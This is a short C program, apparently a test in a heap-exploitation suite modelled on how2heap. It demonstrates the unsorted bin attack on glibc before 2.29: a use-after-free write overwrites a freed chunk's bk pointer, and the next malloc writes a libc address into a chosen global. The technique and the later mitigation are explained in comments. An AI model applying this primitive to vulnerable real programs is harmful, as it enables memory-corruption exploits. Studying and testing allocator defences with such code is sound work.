/* Technique: unsorted bin attack (how2heap unsorted_bin_attack,
   glibc < 2.29; stopped in 2.29 by the unsorted bin's list check).

   Goal: a write to a chosen address (the global target receives the
   unsorted bin's address, a libc pointer).

   How: a 0x430 chunk (outside the tcache) is freed into the unsorted
   bin; a use-after-free write sets its bk to &target - 2.  When malloc
   takes it off the unsorted bin it does bck->fd = unsorted_chunks (av),
   i.e. writes the bin address into target.  glibc 2.29+ first checks
   bck->fd == victim and aborts.  */
#include "attack.h"

size_t target = 0;

int
main (void)
{
  attack_init ("unsorted_bin_attack: unsorted bk rewritten, removal writes the bin address");
  size_t *p = malloc (0x428);
  void *guard = malloc (0x18);
  say ("p %p guard %p &target %p", p, guard, &target);
  free (p);
  p[1] = (size_t) (&target - 2);	/* use after free: p->bk */
  void *q = malloc (0x428);
  say ("malloc = %p; target = %#zx", q, target);
  if (target != 0)
    reached ("target at %p overwritten with %#zx", &target, target);
  no_effect ("target unchanged");
}
